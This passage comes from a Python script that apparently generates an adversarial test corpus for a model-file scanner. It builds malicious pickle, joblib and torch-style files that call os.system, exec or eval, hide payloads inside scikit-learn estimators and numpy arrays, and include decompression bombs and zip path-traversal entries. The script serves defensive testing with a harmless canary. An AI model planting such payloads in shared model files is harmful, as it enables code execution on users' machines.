    c.add(f, "lists_1e5_p2.pkl", b"\x80\x02" + b"]" * n5 + b"a" * (n5 - 1) + b".", "error",
          "10^5 nested lists (EMPTY_LIST x N, APPEND x N-1)", proto=2)
    c.add(f, "lists_1e6_p4.pkl", b"\x80\x04" + b"]" * n6 + b"a" * (n6 - 1) + b".", "error",
          "10^6 nested lists", proto=4)
    c.add(f, "tuples_1e5_p2.pkl", b"\x80\x02" + b"(" * n5 + b"t" * n5 + b".", "error",
          "10^5 nested tuples (MARK x N, TUPLE x N)", proto=2)
    c.add(f, "dicts_1e5_p4.pkl",
          b"\x80\x04" + b"}\x8c\x01k" * n5 + b"}" + b"s" * n5 + b".", "error",
          "10^5 nested dicts ({'k': {'k': ...}} through SETITEM)", proto=4)
    c.add(f, "reduce_1e5_p4.pkl",
          b"\x80\x04\x8c\x08builtins\x8c\x04list\x93\x940" + b"h\x00" * n5 + b")R" +
          b"\x85R" * (n5 - 1) + b".", "error",
          "10^5 nested calls list(list(...list()))", proto=4)
    c.add(f, "open_marks_1e6_p2.pkl", b"\x80\x02" + b"(" * n6 + b"N.", "error",
          "10^6 MARKs never closed, then STOP", proto=2)


def fam_memo_fanout(c):
    f = "memo_fanout"

    def fanout(leaf, levels, body):
        """leaf memoized as 0, then level k = body(reference to level k-1) memoized as k."""
        items = [Put(0, leaf), Raw(b"0")]
        for k in range(1, levels + 1):
            items += [Put(k, body(Get(k - 1))), Raw(b"0")]
        return Seq(*items[:-1])  # the last level stays on the stack: the root

    system = Call(G("posix", "system"), c.cmd)
    for p, kind, body in ((2, "lists", lambda r: [r] * 10), (4, "tuples", lambda r: (r,) * 10),
                          (5, "dicts", lambda r: {i: r for i in range(10)})):
        c.add(f, "%s_10_pow_40_p%d.pkl" % (kind, p), dumps(fanout(system, 40, body), p), D,
              "billion laughs: 40 levels of %s of 10 memo references to one os.system call"
              % kind, {"posix.system": D}, proto=p, would_execute=True)
    leaf = ("A" * (1 << 20), system)
    c.add(f, "string_2_pow_64_p5.pkl", dumps(fanout(leaf, 64, lambda r: [r, r]), 5), "error",
          "a 1 MiB string (next to an os.system call) referenced 2^64 times through 64 levels "
          "of pairs: refused, or kept shared and reported", {"posix.system": D}, proto=5,
          would_execute=True, also_accept=["dangerous"])


def fam_torch_zip(c):
    f = "torch_zip"
    evil = dumps({"state_dict": {}, "hook": Call(G("posix", "system"), c.cmd)}, 2)
    meta = [("archive/version", b"3\n"), ("archive/byteorder", b"little"),
            ("archive/data/0", bytes(8)), ("archive/.data/serialization_id", b"1234\n")]
    c.add(f, "torch_layout_malicious.pt", zip_archive([("archive/data.pkl", evil)] + meta), D,
          "a zip laid out like torch.save output whose data.pkl calls posix.system",
          {"posix.system": D}, would_execute=True, self_check="zip:archive/data.pkl",
          unsupported_ok=True)
    pers = Seq(Call(G("builtins", "exec"), c.exec_src), Raw(b"0"),
               Call(G("torch._utils", "_rebuild_tensor_v2"),
                    Seq(("storage", G("torch", "FloatStorage"), "0", "cpu", 2), Raw(b"Q")),
                    0, (2,), (1,), False, {}))
    c.add(f, "torch_persistent_ids_exec.pt",
          zip_archive([("archive/data.pkl", dumps(pers, 2))] + meta), D,
          "torch-style data.pkl with storages as persistent ids, after a builtins.exec call",
          {"builtins.exec": D}, would_execute=True, self_check="zip:archive/data.pkl",
          unsupported_ok=True, also_accept=["error"])
    benign = dumps({"w": 1.0}, 2)
    for name, members, what in (
            ("dotdot_names", [("archive/data.pkl", benign), ("../../evil.pkl", evil)],
             "an entry named ../../evil.pkl"),
            ("absolute_name", [("archive/data.pkl", benign), ("/tmp/evil.pkl", evil)],
             "an entry with an absolute name"),
            ("backslash_name", [("archive/data.pkl", benign),
                                ("archive\\..\\..\\evil.pkl", evil)],
             "an entry named with backslashes and .."),
            ("duplicate_names", [("archive/data.pkl", benign), ("archive/data.pkl", evil)],
             "data.pkl twice: benign first, malicious second (Python's zipfile reads the "
             "second)")):
        c.add(f, name + ".pt", zip_archive(members + meta), "error",
              "a torch-like zip with " + what, {"posix.system": D},
              would_execute=name == "duplicate_names", self_check="zip:archive/data.pkl",
              unsupported_ok=True)
    plain = dumps(Call(G("posix", "system"), c.cmd), 2)
    for ext in ("pt", "json", "onnx", "safetensors", "yaml", "milo"):
        c.add(f, "pickle_named_model." + ext, plain, D,
              "a plain malicious pickle named *.%s: content decides, not the name" % ext,
              {"posix.system": D}, proto=2, would_execute=True)
    c.add(f, "pickle_zip_polyglot.pkl", plain + zip_archive([("archive/data.pkl", benign)]),
          "error", "a malicious pickle with a zip archive appended (also a valid zip)",
          {"posix.system": D}, proto=2, would_execute=True, error_offset=len(plain))


def fam_decompression_bomb(c):
    """Streams that inflate far beyond the decompression caps (sdk/readers/decompress.hpp:
    output <= max(16 MiB, 1000 x input)). Sized so that a reader which enforces the caps while
    inflating stays well inside the test's 1 GiB address-space limit."""
    f = "decompression_bomb"
    head = b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40)  # BINBYTES8 of 1 TiB follows
    zeros = bytes(64 << 20)
    # zlib (joblib compress='zlib'): one deflate stream of 256 MiB, 64 MiB blocks repeated
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(head + zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    last = comp.flush(zlib.Z_FINISH)
    adler = zlib.adler32(head + zeros)
    for _ in range(3):
        adler = zlib.adler32(zeros, adler)
    data = b"\x78\xda" + first + block * 3 + last + struct.pack(">I", adler)
    c.add(f, "zlib_256mib.joblib", data, "error",
          "zlib stream inflating to 256 MiB at deflate's maximum ratio (~1030, just above the "
          "cap of 1000) behind a pickle header", needs_location=False)
    member = gzip.compress(zeros, 9, mtime=0)
    data = gzip.compress(head + zeros, 9, mtime=0) + member * 3
    c.add(f, "gzip_256mib.joblib", data, "error", "4 gzip members inflating to 256 MiB",
          needs_location=False)
    member = lzma.compress(zeros, preset=0)
    data = lzma.compress(head + zeros, preset=0) + member * 3
    c.add(f, "xz_256mib.joblib", data, "error",
          "4 xz streams inflating to 256 MiB (ratio ~6800)", needs_location=False)
    member = bz2.compress(zeros, 9)
    data = bz2.compress(head + zeros, 9) + member * 255
    c.add(f, "bz2_16gib.joblib", data, "error",
          "256 bz2 streams inflating to 16 GiB (ratio ~850000)", needs_location=False)


def fam_ext_opcodes(c):
    f = "ext_opcodes"
    for name, p, op in (("ext1", 2, b"\x82\x01"), ("ext2", 2, b"\x83" + struct.pack("<H", 0x1234)),
                        ("ext4", 4, b"\x84" + struct.pack("<i", 0x7FFFFFFF)),
                        ("ext4_zero", 2, b"\x84" + struct.pack("<i", 0)),
                        ("ext4_negative", 5, b"\x84" + struct.pack("<i", -1))):
        c.add(f, "%s_call_p%d.pkl" % (name, p), dumps(Call(Raw(op), c.cmd), p), "error",
              "a copyreg extension code as the callable of REDUCE (resolves to whatever the "
              "loading process registered): refused, or reported as not trusted", proto=p,
              also_accept=["untrusted"])
    v = Build(New(G("sklearn.linear_model._base", "LinearRegression")),
              {"fit_intercept": True, "coef_": Raw(b"\x82\x05")})
    c.add(f, "ext1_in_estimator_state_p4.pkl", dumps(v, 4), "error",
          "EXT1 as a value inside an estimator's state", proto=4, also_accept=["untrusted"])


def fam_persistent_ids(c):
    f = "persistent_ids"
    c.add(f, "persid_text_p0.pkl", b"Pos.system\n.", "error",
          "PERSID 'os.system' as the first opcode (plain pickle has no persistent_load): "
          "refused, reported as not trusted, or not recognised as a pickle at all", proto=0,
          also_accept=["untrusted"], unsupported_ok=True)
    c.add(f, "binpersid_torch_storage_p2.pkl",
          dumps(Seq(("storage", G("torch", "FloatStorage"), "0", "cpu", 4), Raw(b"Q")), 2),
          "error", "BINPERSID of a torch-style storage tuple", proto=2,
          also_accept=["untrusted"])
    c.add(f, "binpersid_of_system_call_p4.pkl",
          dumps(Seq(Call(G("posix", "system"), c.cmd), Raw(b"Q")), 4), "error",
          "BINPERSID whose pid is a posix.system call (the call runs before persistent_load "
          "fails); reporting it as dangerous is acceptable", {"posix.system": D}, proto=4,
          would_execute=True, also_accept=["dangerous"])
    v = Build(New(G("sklearn.linear_model._base", "LinearRegression")),
              {"coef_": Seq("0", Raw(b"Q")), "_sklearn_version": "1.2.1"})
    c.add(f, "binpersid_in_estimator_state_p5.pkl", dumps(v, 5), "error",
          "a persistent id inside an estimator's state", proto=5, also_accept=["untrusted"])


def fam_inst_obj(c):
    f = "inst_obj"
    cmd = Pickler(0)
    cmd.emit(c.cmd)
    argv = Pickler(0)
    argv.emit(c.argv)
    src = Pickler(0)
    src.emit(c.eval_src)
    for name, data, what, off in (
            ("inst_os_system_p0", b"(" + bytes(cmd.out) + b"ios\nsystem\n.", "INST os.system",
             "os.system"),
            ("inst_check_output_p0", b"(" + bytes(argv.out) + b"isubprocess\ncheck_output\n.",
             "INST subprocess.check_output", "subprocess.check_output"),
            ("inst_py2_builtin_eval_p0", b"(" + bytes(src.out) + b"i__builtin__\neval\n.",
             "INST __builtin__.eval (renamed builtins.eval)", "builtins.eval"),
            ("obj_os_system_p1", b"(cos\nsystem\nX" + struct.pack("<I", len(c.cmd)) +
             c.cmd.encode() + b"o.", "OBJ os.system (protocol 1 opcodes)", "os.system"),
            ("obj_posix_system_p2", b"\x80\x02(cposix\nsystem\nX" + struct.pack("<I", len(c.cmd)) +
             c.cmd.encode() + b"o.", "OBJ posix.system under PROTO 2", "posix.system"),
            ("inst_os_system_p2", b"\x80\x02(X" + struct.pack("<I", len(c.cmd)) + c.cmd.encode() +
             b"ios\nsystem\n.", "INST os.system under PROTO 2", "os.system")):
        c.add(f, name + ".pkl", data, D, what + "(cmd)", {off: D},
              proto=int(name[-1]), would_execute=True)


def fam_untrusted_unknown(c):
    f = "untrusted_unknown"
    lr = G("sklearn.linear_model._base", "LinearRegression")
    cases = (
        ("unknown_class_p4", 4, Build(New(G("acme.models", "Backdoor")), {"weights": [1.0, 2.0]}),
         "an object of an unknown class acme.models.Backdoor", {"acme.models.Backdoor": U}),
        ("unknown_function_p2", 2, Call(G("acme.loader", "fetch"), "https://example.invalid/x"),
         "a call of an unknown function", {"acme.loader.fetch": U}),
        ("estimator_with_unknown_param_p4", 4,
         Build(New(lr), {"fit_intercept": True, "loss": New(G("mypkg.losses", "CustomLoss")),
                         "_sklearn_version": "1.2.1"}),
         "a LinearRegression whose state holds an unknown class", {"mypkg.losses.CustomLoss": U}),
        ("lookalike_class_p4", 4,
         Build(New(G("sklearn.linear_model._base", "LinearRegressionX")), {"a": 1}),
         "a class named like an estimator (exact names only)",
         {"sklearn.linear_model._base.LinearRegressionX": U}),
        ("lookalike_module_p2", 2,
         Build(New(G("sklearnx.linear_model._base", "LinearRegression")), {"a": 1}),
         "a module named like sklearn (no prefix matching)",
         {"sklearnx.linear_model._base.LinearRegression": U}),
        ("estimator_globals_p4", 4,
         G("sklearn.linear_model._base", "LinearRegression.__init__.__globals__"),
         "a qualname walking from an estimator to its module's globals",
         {"sklearn.linear_model._base.LinearRegression.__init__.__globals__": U}),
    )
    for name, p, v, what, offenders in cases:
        c.add(f, name + ".pkl", dumps(v, p), U, what, offenders, proto=p)


# ---- families built from real numpy / scikit-learn / joblib objects


def small_data():
    import numpy as np
    rng = np.random.RandomState(0)
    X = rng.normal(size=(40, 4))
    return X, (X[:, 0] + X[:, 1] > 0).astype(int), X @ np.array([1.0, -2.0, 0.5, 3.0])


def fam_sklearn_patched(c):
    import joblib
    import numpy as np
    from sklearn.tree import DecisionTreeClassifier
    f = "sklearn_patched"
    X, y, _ = small_data()
    tree = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
    state = tree.tree_.__getstate__()
    nodes, values, n = state["nodes"], state["values"], state["node_count"]

    def with_nodes(field, index, value):
        patched = nodes.copy()
        patched[field][index] = value
        return patched.tobytes()

    same_length = (
        ("child_past_node_count", with_nodes("left_child", 0, n + 100),
         "left child of the root = node_count + 100"),
        ("child_negative", with_nodes("right_child", 0, -7), "right child of the root = -7"),
        ("child_huge", with_nodes("left_child", 0, 2**62), "left child of the root = 2^62"),
        ("child_self_cycle", with_nodes("left_child", 0, 0),
         "left child of the root = the root (a cycle)"),
        ("feature_out_of_range", with_nodes("feature", 0, 10**6),
         "split feature of the root = 10^6 with 4 features"),
    )
    for p in (4, 5):
        data = pickle.dumps(tree, protocol=p)
        raw = nodes.tobytes()
        assert data.count(raw) == 1
        for name, patched, what in same_length:
            c.add(f, "tree_%s_p%d.pkl" % (name, p), data.replace(raw, patched), "error",
                  "DecisionTreeClassifier (Debian sklearn) with " + what, proto=p)
        ops = raw_ops(data)
        at = next(i for i, o in enumerate(ops) if o[1] == raw or o[1] == bytearray(raw))

        def near_shape(want, op_index=at):
            """Start of the ops `int... TUPLEk` spelling shape `want` nearest the data op."""
            k = len(want)
            tuple_op = {1: "TUPLE1", 2: "TUPLE2", 3: "TUPLE3"}[k]
            found = [i for i in range(len(ops) - k) if ops[i + k][0] == tuple_op and
                     [o[1] for o in ops[i:i + k]] == list(want)]
            return min(found, key=lambda i: abs(i - op_index))

        def patch(start_op, count, new):
            return rewrite(data, {ops[start_op][2]: (count, new)})

        s = near_shape((n,))
        c.add(f, "tree_nodes_shape_larger_p%d.pkl" % p,
              patch(s, 2, int_op(n + 1) + b"\x85"), "error",
              "nodes array shape (node_count + 1,) with node_count records of data", proto=p)
        c.add(f, "tree_nodes_shape_negative_p%d.pkl" % p, patch(s, 2, int_op(-1) + b"\x85"),
              "error", "nodes array shape (-1,)", proto=p)
        c.add(f, "tree_nodes_shape_overflow_p%d.pkl" % p,
              patch(s, 2, int_op(2**62) + int_op(2**62) + b"\x86"), "error",
              "nodes array shape (2^62, 2^62): the product overflows", proto=p)
        v = near_shape(values.shape, next(i for i, o in enumerate(ops)
                                          if o[1] in (values.tobytes(),
                                                      bytearray(values.tobytes()))))
        c.add(f, "tree_values_shape_overflow_p%d.pkl" % p,
              patch(v, 4, int_op(2**40) * 3 + b"\x87"), "error",
              "values array shape (2^40, 2^40, 2^40)", proto=p)
        name = ops[at][0]
        for cut, what in ((len(raw) - 1, "one byte"), (len(raw) - nodes.itemsize, "one record")):
            c.add(f, "tree_nodes_short_by_%s_p%d.pkl" % (what.replace(" ", "_"), p),
                  patch(at, 1, bytes_op(name, raw[:cut])), "error",
                  "nodes array data %s shorter than shape x itemsize" % what, proto=p)
        nc = next(i for i, o in enumerate(ops) if o[1] == "node_count")
        nc_value = next(i for i in range(nc + 1, len(ops)) if ops[i][0].startswith("BININT"))
        c.add(f, "tree_node_count_mismatch_p%d.pkl" % p, patch(nc_value, 1, int_op(n + 5)),
              "error", "Tree state node_count = %d with %d nodes" % (n + 5, n), proto=p)
    buf = io.BytesIO()
    joblib.dump(tree, buf)
    data = buf.getvalue()
    assert data.count(nodes.tobytes()) == 1
    c.add(f, "tree_child_past_node_count.joblib",
          data.replace(nodes.tobytes(), same_length[0][1]), "error",
          "joblib file (uncompressed) of the tree with a child index past node_count")


def fam_joblib_malicious(c):
    import joblib
    import numpy as np
    from sklearn.linear_model import LinearRegression
    f = "joblib_malicious"
    X, _, yr = small_data()
    lr = LinearRegression().fit(X, yr)
    lr.__dict__["evil"] = Reduce(os.system, (c.cmd,))
    plain = io.BytesIO()
    joblib.dump(lr, plain)
    for comp in (None, "zlib", "gzip", "bz2", "xz", "lzma"):
        path = os.path.join(c.out_dir, f, "lr_%s.joblib" % (comp or "raw"))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        joblib.dump(lr, path, compress=(comp, 3) if comp else 0)
        with open(path, "rb") as fh:
            data = fh.read()
        c.add(f, os.path.basename(path), data, D,
              "joblib.dump (%s) of a LinearRegression with an os.system REDUCE in its state"
              % (comp or "uncompressed"), {"posix.system": D}, would_execute=True,
              self_check="joblib")
    c.add(f, "lr_lz4.joblib", lz4_frame_stored(plain.getvalue()), D,
          "the same as an lz4 frame (stored blocks)", {"posix.system": D}, would_execute=True,
          self_check="joblib", python="venv")
    arr = np.array([1.5, Reduce(os.system, (c.cmd,)), "x"], dtype=object)
    for comp in (None, "zlib"):
        buf = io.BytesIO()
        if comp:
            path = os.path.join(c.out_dir, f, "tmp.joblib")
            joblib.dump({"arr": arr}, path, compress=(comp, 3))
            with open(path, "rb") as fh:
                data = fh.read()
            os.remove(path)
        else:
            joblib.dump({"arr": arr}, buf)
            data = buf.getvalue()
        c.add(f, "object_array_%s.joblib" % (comp or "raw"), data, D,
              "joblib object array (a nested pickle after the wrapper) holding os.system",
              {"posix.system": D}, would_execute=True, self_check="joblib")


def fam_object_array(c):
    import numpy as np
    from sklearn.preprocessing import LabelEncoder
    f = "object_array"
    evil = Reduce(os.system, (c.cmd,))
    arr = np.array([1.5, evil, "x"], dtype=object)
    for p in (2, 4, 5):
        c.add(f, "object_array_p%d.pkl" % p, pickle.dumps(arr, protocol=p), D,
              "numpy object array whose second element is an os.system REDUCE",
              {"posix.system": D}, proto=p, would_execute=True)
    arr2 = np.empty((2, 2), dtype=object)
    arr2[:] = [[1, "a"], [evil, None]]
    c.add(f, "object_array_2d_fortran_p4.pkl", pickle.dumps(np.asfortranarray(arr2), protocol=4),
          D, "2-D Fortran-order object array with the payload", {"posix.system": D}, proto=4,
          would_execute=True)
    enc = LabelEncoder().fit(["a", "b"])
    enc.classes_ = np.array(["a", evil], dtype=object)
    c.add(f, "label_encoder_classes_p4.pkl", pickle.dumps(enc, protocol=4), D,
          "LabelEncoder whose classes_ object array holds the payload", {"posix.system": D},
          proto=4, would_execute=True)


def fam_setstate_smuggle(c):
    from sklearn.linear_model import LinearRegression, LogisticRegression
    from sklearn.pipeline import Pipeline
    f = "setstate_smuggle"
    X, y, yr = small_data()
    lr = LinearRegression().fit(X, yr)
    lr.__dict__["evil"] = Reduce(os.system, (c.cmd,))
    for p in (2, 4, 5):
        c.add(f, "lr_state_reduce_p%d.pkl" % p, pickle.dumps(lr, protocol=p), D,
              "a fitted LinearRegression whose __setstate__ state holds an os.system REDUCE",
              {"posix.system": D}, proto=p, would_execute=True)
    lr2 = LinearRegression().fit(X, yr)
    lr2.__dict__["fn"] = os.system
    c.add(f, "lr_state_global_ref_p4.pkl", pickle.dumps(lr2, protocol=4), D,
          "a LinearRegression whose state references os.system (not called)",
          {"posix.system": D}, proto=4)
    pipe = Pipeline([("clf", LogisticRegression())]).fit(X, y)
    pipe.steps.append(("evil", Reduce(os.system, (c.cmd,))))
    c.add(f, "pipeline_step_p4.pkl", pickle.dumps(pipe, protocol=4), D,
          "a fitted Pipeline with an extra step that is an os.system REDUCE",
          {"posix.system": D}, proto=4, would_execute=True)
    lrg = G("sklearn.linear_model._base", "LinearRegression")
    c.rce(f, "hand_built_state_eval",
          Build(New(lrg), {"coef_": Call(G("builtins", "eval"), c.eval_src),
                           "_sklearn_version": "1.2.1"}), (4,),
          "NEWOBJ LinearRegression + BUILD whose state dict calls builtins.eval",
          {"builtins.eval": D})
    c.rce(f, "hand_built_slotstate", Build(New(lrg), (None, {"x": Call(G("os", "system"),
                                                                       c.cmd)})), (2,),
          "BUILD (None, slot state) with an os.system call", {"os.system": D})


FAMILIES = (fam_direct_rce, fam_aliased_names, fam_memo_stack_global, fam_indirect_resolvers,
            fam_nested_loads, fam_broken_tail, fam_concatenated, fam_wrong_kind,
            fam_huge_lengths, fam_deep_nesting, fam_memo_fanout, fam_torch_zip,
            fam_decompression_bomb, fam_ext_opcodes, fam_persistent_ids, fam_inst_obj,
            fam_untrusted_unknown, fam_sklearn_patched, fam_joblib_malicious, fam_object_array,
            fam_setstate_smuggle)


def build(canary, out_dir):
    c = Corpus(out_dir, canary)
    for fam in FAMILIES:
        try:
            fam(c)
        except ImportError as e:  # numpy / sklearn / joblib missing in this interpreter
            c.notes.append("%s skipped: %s" % (fam.__name__[4:], e))
    manifest = {"canary": canary, "families": c.families, "files": c.entries,
                "notes": c.notes}
    with open(os.path.join(out_dir, "manifest.json"), "w") as fh:
        json.dump(manifest, fh, indent=1)
    return manifest


# ------------------------------------------------------------------------------------------
# --self-check: prove that every "would execute" file really runs its payload.

LOADER = r"""
import io, pickle, sys, zipfile
path, mode = sys.argv[1], sys.argv[2]
if mode == "pickle":
    pickle.load(open(path, "rb"))
elif mode == "pickle_all":
    f = open(path, "rb")
    while True:
        pickle.load(f)
elif mode == "joblib":
    import joblib
    joblib.load(path)
elif mode.startswith("zip:"):
    pickle.loads(zipfile.ZipFile(path).read(mode[4:]))
"""


def self_check():
    tmp = tempfile.mkdtemp(prefix="milo-adversarial-")
    try:
        canary = os.path.join(tmp, "canary")
        corpus = os.path.join(tmp, "corpus")
        os.makedirs(corpus)
        manifest = build(canary, corpus)
        live = [e for e in manifest["files"] if e["would_execute"]]
        failures = []
        skipped = []
        # negative control: a benign pickle through the same loader leaves no canary
        control = os.path.join(tmp, "control.pkl")
        with open(control, "wb") as fh:
            fh.write(dumps({"w": [1.0, 2.0]}, 4))
        subprocess.run([sys.executable, "-c", LOADER, control, "pickle"], cwd=tmp, timeout=60)
        if os.path.exists(canary):
            print("the benign control pickle created the canary: the check is broken")
            return 1
        for e in live:
            python = sys.executable
            if e.get("python") == "venv":
                python = os.path.normpath(VENV_PYTHON)
                if not os.access(python, os.X_OK):
                    skipped.append(e["file"] + " (no venv at %s)" % python)
                    continue
            if os.path.exists(canary):
                os.remove(canary)
            try:
                subprocess.run([python, "-c", LOADER, os.path.join(corpus, e["file"]),
                                e["self_check"]], cwd=tmp, timeout=60,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            except subprocess.TimeoutExpired:
                pass
            deadline = time.monotonic() + 5  # subprocess.Popen payloads run asynchronously
            while not os.path.exists(canary) and time.monotonic() < deadline:
                time.sleep(0.02)
            ok = os.path.exists(canary)
            print("%-4s %s" % ("live" if ok else "DEAD", e["file"]))
            if not ok:
                failures.append(e["file"])
        for note in manifest["notes"]:
            print("note:", note)
        for s in skipped:
            print("skipped:", s)
        print("self-check: %d of %d would-execute files created the canary (%d files in %d "
              "families)%s" % (len(live) - len(failures) - len(skipped), len(live),
                               len(manifest["files"]), len(manifest["families"]),
                               "" if not failures else "; DEAD: " + ", ".join(failures)))
        return 1 if failures else 0
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--self-check", action="store_true",
                    help="build in a temporary folder and prove the payloads are live")
    ap.add_argument("canary", nargs="?")
    ap.add_argument("out_dir", nargs="?")
    args = ap.parse_args()
    if args.self_check:
        return self_check()
    if not args.canary or not args.out_dir:
        ap.error("CANARY_PATH and OUT_DIR are required (or --self-check)")
    canary = os.path.abspath(args.canary)
    out_dir = os.path.abspath(args.out_dir)
    if os.path.isdir(out_dir):
        if os.listdir(out_dir) and not os.path.exists(os.path.join(out_dir, "manifest.json")):
            ap.error("%s is not empty and holds no manifest.json: not replacing it" % out_dir)
        shutil.rmtree(out_dir)
    os.makedirs(out_dir)
    manifest = build(canary, out_dir)
    for note in manifest["notes"]:
        print("note:", note)
    print("wrote %d files in %d families to %s" % (len(manifest["files"]),
                                                   len(manifest["families"]), out_dir))
    return 0


if __name__ == "__main__":
    sys.exit(main())
